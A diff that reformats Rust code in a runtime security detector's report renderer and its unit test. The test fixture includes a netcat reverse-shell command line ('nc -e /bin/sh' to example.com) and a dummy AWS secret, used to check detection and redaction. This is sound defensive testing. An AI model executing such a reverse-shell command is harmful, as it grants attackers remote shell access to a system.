@@ -30,8 +30,16 @@ pub fn render(facts: &ExecFacts, lineage: &Lineage, v: &Verdict) -> Value {
         .iter()
         .map(|h| json!({"id": h.signal.id, "title": h.signal.title, "level": h.signal.level, "weight": h.signal.weight, "category": h.signal.category, "evidence": escape(&h.evidence, 240)}))
         .collect();
-    let techniques: Vec<Value> = v.techniques.iter().map(|t| json!({"id": t.id, "name": t.name})).collect();
-    let tactics: Vec<Value> = v.tactics.iter().map(|t| json!({"id": t.id, "name": t.name})).collect();
+    let techniques: Vec<Value> = v
+        .techniques
+        .iter()
+        .map(|t| json!({"id": t.id, "name": t.name}))
+        .collect();
+    let tactics: Vec<Value> = v
+        .tactics
+        .iter()
+        .map(|t| json!({"id": t.id, "name": t.name}))
+        .collect();
     let mitigations: Vec<Value> = v
         .mitigations
         .iter()
@@ -83,12 +91,18 @@ mod tests {
     #[test]
     fn seed_report_has_the_contract_keys_and_true_hints() {
         let f = ExecFacts {
-            argv: ["nc", "-e", "/bin/sh", "example.com", "22"].iter().map(|s| s.to_string()).collect(),
+            argv: ["nc", "-e", "/bin/sh", "example.com", "22"]
+                .iter()
+                .map(|s| s.to_string())
+                .collect(),
             exe_path: Some("/usr/bin/nc.openbsd".into()),
             uid: Some(0),
             res: Some(0),
             exe_flags: Some(ExeFlags(ExeFlags::WRITABLE | ExeFlags::LOWER_LAYER)),
-            container: Some(ContainerInfo { runtime: ContainerRuntime::Docker, short_id: "1d45a96b1daa".into() }),
+            container: Some(ContainerInfo {
+                runtime: ContainerRuntime::Docker,
+                short_id: "1d45a96b1daa".into(),
+            }),
             env: vec!["AWS_SECRET_ACCESS_KEY=hunter2".into()],
             cgroups_present: true,
             ..Default::default()
@@ -96,19 +110,42 @@ mod tests {
         let l = Lineage::from_comms(["event-generator"]);
         let v = analyze(&f, &l);
         let j = super::render(&f, &l, &v);
-        for k in ["risk", "severity", "category", "signals", "mitre", "summary", "mitigations", "evidence", "test_activity", "facts", "lineage"] {
+        for k in [
+            "risk",
+            "severity",
+            "category",
+            "signals",
+            "mitre",
+            "summary",
+            "mitigations",
+            "evidence",
+            "test_activity",
+            "facts",
+            "lineage",
+        ] {
             assert!(j.get(k).is_some(), "missing {k}");
         }
         assert_eq!(j["test_activity"], true);
         assert_eq!(j["mitre"]["attack_version"], "16.1");
         assert_eq!(j["mitigations"][0]["id"], "allowlist_test_activity");
-        assert!(j["facts"]["exe_flags"].as_array().is_some_and(|a| a.len() == 2));
+        assert!(j["facts"]["exe_flags"]
+            .as_array()
+            .is_some_and(|a| a.len() == 2));
         let text = j.to_string();
         assert!(!text.contains("hunter2"), "env must not leak");
-        for bad in ["--securityOpt", "--netcat-opt", "--security-opt noexec", "--security-opt nosuid"] {
+        for bad in [
+            "--securityOpt",
+            "--netcat-opt",
+            "--security-opt noexec",
+            "--security-opt nosuid",
+        ] {
             assert!(!text.contains(bad));
         }
-        assert!(v.risk < 50, "test activity stays below Warning, got {}", v.risk);
+        assert!(
+            v.risk < 50,
+            "test activity stays below Warning, got {}",
+            v.risk
+        );
         assert!(v.techniques.iter().any(|t| t.id == "T1059.004"));
     }
 }
